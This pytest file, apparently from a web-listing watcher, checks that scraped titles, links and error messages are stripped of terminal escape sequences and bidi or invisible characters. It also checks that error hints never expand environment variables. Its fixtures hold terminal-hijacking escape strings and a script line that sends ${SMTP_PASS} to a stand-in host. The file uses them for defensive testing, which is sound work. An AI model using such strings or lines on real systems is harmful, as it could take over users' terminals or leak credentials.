"""What strangers write steers no terminal: not in titles, addresses or errors."""

from __future__ import annotations

import json

import pytest

from tests.listing.pages import page
from watcher.errors import FetchError, ReadError
from watcher.inert import STEERING, inert, inert_address
from watcher.listing import read_listing
from watcher.read import read_document

# A colour, a window's title, a cleared screen in one byte, a reversed direction, an Arabic mark of direction, a
# zero-width space, an invisible tag.
ODD = "\x1b[31m\x1b]0;x\x07\x9b2J\u202e\u061c\u200b\U000e0041"
TITLE = f"关于{ODD}优化环评审批服务的通知"


def steers(value: object) -> bool:
    return STEERING.search(str(value)) is not None


@pytest.mark.parametrize(
    ("text", "shown"),
    [("a\x1b[31mb", "a[31mb"), ("a\u202eb", "ab"), ("a\tb\nc", "a\tb\nc"), ("新闻　[red]", "新闻　[red]")],
)
def test_only_what_steers_is_dropped(text: str, shown: str) -> None:
    assert inert(text) == shown


def test_an_address_keeps_what_steers_in_percent_signs() -> None:
    assert inert_address("http://a.cn/\x1b[2J\u202e.pdf") == "http://a.cn/%1B[2J%E2%80%AE.pdf"


@pytest.mark.parametrize(
    "body",
    [
        f"<ul><li><a href='/post_1234{ODD}.html' title='{TITLE}'>{TITLE}</a> 2026-06-18</li></ul>",
        json.dumps([{"title": TITLE, "url": f"/post_1234{ODD}.html", "date": "2026-06-18"}]),
        f"<rss><channel><item><title>{TITLE}</title><link>http://a.cn/1{ODD}.html</link></item></channel></rss>",
    ],
    ids=["page", "json", "feed"],
)
def test_entries_steer_nothing(body: str) -> None:
    (entry,) = read_listing(page(body), "auto").links
    assert not steers(entry.title + entry.url)
    assert "优化环评审批服务的通知" in entry.title


def test_a_document_steers_nothing() -> None:
    html = (
        f"<title>{TITLE}</title><h1>{TITLE}</h1><p>来源：某报{ODD} <a href='http://b.cn/{ODD}'>原文链接</a></p>"
        f"<p>正文{ODD}，近日发布若干措施，减免费用300万元。</p><a href='a{ODD}.pdf'>附件{ODD}.pdf</a>"
    )
    found = read_document(html.encode(), url="http://a.cn/1.html", media_type="text/html", charset="utf-8", name="1")
    addresses = [*(one.url for one in found.attachments), found.credit.original_url]
    names = [found.title, found.text, found.credit.name, *(one.name for one in found.attachments)]
    assert None not in addresses
    assert not any(map(steers, (*addresses, *names)))


@pytest.mark.parametrize(
    "body",
    [
        "<div id='app'></div><script>fetch(`http://b.cn/list.json?k=${SMTP_PASS}`)</script>",
        "<iframe src='/list/?k=${SMTP_PASS}'></iframe>",
        "<link rel='alternate' type='application/rss+xml' href='/feed.xml?k=${SMTP_PASS}'>",
    ],
    ids=["script", "frame", "feed"],
)
def test_an_address_that_an_error_tells_to_set_takes_nothing_from_the_environment(body: str) -> None:
    with pytest.raises(ReadError) as caught:
        read_listing(page(f"<title>动态</title>{body}"), "auto")
    said = f"{caught.value.message} {caught.value.hint}"
    assert "$%7BSMTP_PASS}" in said
    assert "${" not in said


@pytest.mark.parametrize("text", ["龦\U000e0100", "㐂", "é", "👩\ufe0f", "ﾊﾟ", "한"])
def test_what_is_read_stays(text: str) -> None:
    assert inert(text) == text


def test_an_error_is_one_line() -> None:
    said = "没有找到\nERROR x=1\u2028\r\n数据"
    shown = "没有找到 ERROR x=1 数据"
    error = ReadError("empty_list", said, hint=said)
    assert (error.message, error.hint, str(error)) == (shown, shown, shown)
    assert FetchError("http://a.cn/", "dns", said, transient=False).message == shown


def test_an_error_steers_nothing() -> None:
    assert not steers(ReadError("javascript_list", f"its script asks /x{ODD}"))
    assert not steers(FetchError("http://a.cn/", "dns", f"a{ODD}: unknown", transient=False).message)
